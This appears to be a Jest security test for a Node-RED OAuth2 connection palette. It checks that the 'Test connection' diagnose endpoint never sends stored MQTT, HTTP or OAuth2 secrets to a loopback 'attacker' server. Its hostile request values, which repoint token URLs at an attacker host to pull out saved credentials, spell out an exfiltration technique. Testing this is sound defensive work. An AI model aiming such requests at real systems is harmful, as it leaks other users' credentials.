// "Test connection" in a REAL Node-RED 5 (palette installed from the packed tarball), called
// through its admin API the way a hostile editor user could: naming an MQTT broker node, an
// http request node with basic auth, a disabled Switchboard connection, a deployed one and one
// never deployed, each with a token URL of a loopback "attacker". No stored secret may arrive.
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expectNoSecrets, sentinelSecrets } from '@switchboard/testkit';
import { deployFlows, postJson } from './admin-api';
import type { FlowNode } from './admin-api';
import { startNodeRed } from './node-red-instance';
import type { NodeRedInstance } from './node-red-instance';
import { installTarball, packTarball } from './palette';

const SECRETS = sentinelSecrets(
  'mqtt-password',
  'http-password',
  'disabled-secret',
  'disabled-password',
  'deployed-secret',
  'deployed-password',
);
const ALL = Object.values(SECRETS);

let dir: string;
let nodeRed: NodeRedInstance;
let attacker: Server;
let attackerUrl: string;
const received: string[] = [];

function switchboardConnection(
  id: string,
  secret: string,
  password: string,
  disabled: boolean,
): FlowNode {
  return {
    id,
    type: 'switchboard-generic-oauth2-config',
    name: id,
    tokenUrl: 'http://127.0.0.1:9/token',
    apiBaseUrl: 'http://127.0.0.1:9/api',
    grantType: 'password',
    clientId: 'real-client',
    username: 'real-user',
    clientAuth: 'body',
    tokenStore: 'memory',
    ...(disabled ? { d: true } : {}),
    credentials: { clientSecret: secret, password },
  };
}

const FLOWS: FlowNode[] = [
  { id: 'hostile-tab', type: 'tab', label: 'hostile' },
  {
    id: 'mqtt-broker',
    type: 'mqtt-broker',
    name: 'broker',
    broker: '127.0.0.1',
    port: '9',
    clientid: '',
    autoConnect: false,
    usetls: false,
    protocolVersion: '4',
    keepalive: '60',
    cleansession: true,
    credentials: { user: 'mqtt-user', password: SECRETS['mqtt-password'] },
  },
  {
    id: 'http-basic',
    type: 'http request',
    z: 'hostile-tab',
    name: 'intranet',
    method: 'GET',
    ret: 'txt',
    url: 'http://127.0.0.1:9/intranet',
    authType: 'basic',
    x: 200,
    y: 100,
    wires: [[]],
    credentials: { user: 'http-user', password: SECRETS['http-password'] },
  },
  switchboardConnection(
    'sb-disabled',
    SECRETS['disabled-secret'],
    SECRETS['disabled-password'],
    true,
  ),
  switchboardConnection(
    'sb-deployed',
    SECRETS['deployed-secret'],
    SECRETS['deployed-password'],
    false,
  ),
];

/** The dialog of a generic OAuth2 connection aimed at the attacker, secrets left "unchanged". */
function hostileValues(): Record<string, unknown> {
  return {
    tokenUrl: `${attackerUrl}/token`,
    apiBaseUrl: `${attackerUrl}/api`,
    grantType: 'password',
    clientId: 'attacker',
    clientSecret: '__PWRD__',
    username: 'attacker',
    password: '__PWRD__',
    clientAuth: 'body',
  };
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'switchboard-nr-hostile-'));
  attacker = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      received.push(`${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n${body}`);
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ access_token: 'attacker-token', token_type: 'Bearer' }));
    });
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  nodeRed = await startNodeRed({ userDir: join(dir, 'user') });
  mkdirSync(join(dir, 'pack'));
  await installTarball(nodeRed.url, packTarball(join(dir, 'pack')));
  await deployFlows(nodeRed.url, FLOWS);
});

afterAll(async () => {
  await nodeRed?.stop();
  await new Promise((resolve) => attacker?.close(resolve));
  rmSync(dir, { recursive: true, force: true });
});

describe('Test connection in a real Node-RED, called by a hostile editor user', () => {
  it.each([
    ['an MQTT broker config node', 'mqtt-broker'],
    ['an http request node with basic auth', 'http-basic'],
    ['a disabled Switchboard connection', 'sb-disabled'],
    ['a deployed Switchboard connection', 'sb-deployed'],
    ['a connection never deployed', 'sb-never-deployed'],
  ])('sends no stored secret of %s to the attacker', async (_what, id) => {
    const answer = await postJson(`${nodeRed.url}/switchboard/diagnose/generic-oauth2`, {
      id,
      values: hostileValues(),
    });
    expect(answer.status).toBe(200);
    expect((answer.body as { ok: boolean }).ok).toBe(false);
    expectNoSecrets(received.join('\n'), ALL);
    expectNoSecrets(JSON.stringify(answer.body), ALL);
  });

  it('sends nothing of another provider’s connection either (Mitel dialog, custom base URL)', async () => {
    const answer = await postJson(`${nodeRed.url}/switchboard/diagnose/mitel-cloudlink`, {
      id: 'sb-deployed',
      values: {
        environment: 'custom',
        customBaseUrl: `${attackerUrl}/{service}`,
        grantType: 'password',
        username: 'attacker',
        password: '__PWRD__',
        clientSecret: '__PWRD__',
      },
    });
    expect((answer.body as { ok: boolean }).ok).toBe(false);
    expectNoSecrets(received.join('\n'), ALL);
  });

  it('does send what the person typed in the dialog (so the checks above can fail)', async () => {
    const typed = 'typed-in-the-dialog-4d2f';
    await postJson(`${nodeRed.url}/switchboard/diagnose/generic-oauth2`, {
      id: 'sb-deployed',
      values: { ...hostileValues(), clientSecret: '', password: typed },
    });
    expect(received.join('\n')).toContain(typed);
    expectNoSecrets(received.join('\n'), ALL);
  });

  it('left no secret in the log, flows.json, or in clear in flows_cred.json', () => {
    expectNoSecrets(nodeRed.output(), ALL);
    expectNoSecrets(readFileSync(join(nodeRed.userDir, 'flows.json'), 'utf8'), ALL);
    expectNoSecrets(readFileSync(join(nodeRed.userDir, 'flows_cred.json'), 'utf8'), ALL);
  });
});
